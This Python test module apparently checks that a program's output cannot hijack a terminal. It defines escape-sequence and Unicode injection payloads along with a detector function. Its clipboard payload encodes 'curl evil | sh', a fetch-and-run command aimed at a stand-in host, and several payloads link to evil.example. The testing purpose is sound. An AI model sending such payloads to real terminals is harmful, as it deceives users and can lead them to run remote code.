"""Text that attacks a terminal, and what of it a terminal would have obeyed."""

from __future__ import annotations

import re

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
TITLE = "\x1b]0;owned\x07"
CONCEALED = "\x1b[8mhidden\x1b[0m"
CLEARED = "\x1b[2J\x1b[1;1H"
C1 = "\x9b2J\x9d52;c;AAAA\x9c"
DEVICE = "\x1bP1;1|17/AAAA\x1b\\"
BIDI = "\u202egnp\u202c\u2066x\u2069\u200f"
UNSEEN = "\u200b\u2060\ufeff\U000e0041"
MARKUP = "[link=https://evil.example]click[/link]"

ATTACK = "".join((CLIPBOARD, LINK, TITLE, CONCEALED, CLEARED, C1, DEVICE, BIDI, UNSEEN, MARKUP))
"""All of it, without a slash at its end or a line break in it."""

FILE = "".join((CLIPBOARD, TITLE, CONCEALED, C1, BIDI, UNSEEN)).replace("/", "")
"""Of it, what a file's name can hold."""

XML = C1 + BIDI + "\u200b" + "[link=https://evil.example]"
"""Of it, what XML can hold."""

_OWN = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r|\n|\t")
"""How the program styles its tables and moves its bars."""
_FOREIGN = re.compile("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")
_SEQUENCES = ("\x1b[8m", "\x1b[2J\x1b[1;1H", "\x1b]", "\x1bP", "\x9b", "\x9d", "\x07")


def obeyed(output: bytes) -> list[str]:
    """What a terminal would obey in this output, apart from the program's own styling; empty when all is well."""
    text = output.decode(errors="surrogateescape")
    found = [sequence for sequence in _SEQUENCES if sequence in text]
    raw = [each for each in text if 0xDC80 <= ord(each) <= 0xDCFF]
    return found + _FOREIGN.findall(_OWN.sub("", text)) + raw


def quoted(text: str) -> str:
    """A text as YAML writes it in double quotes, each of its characters escaped."""
    return '"' + "".join(f"\\U{ord(each):08x}" for each in text) + '"'
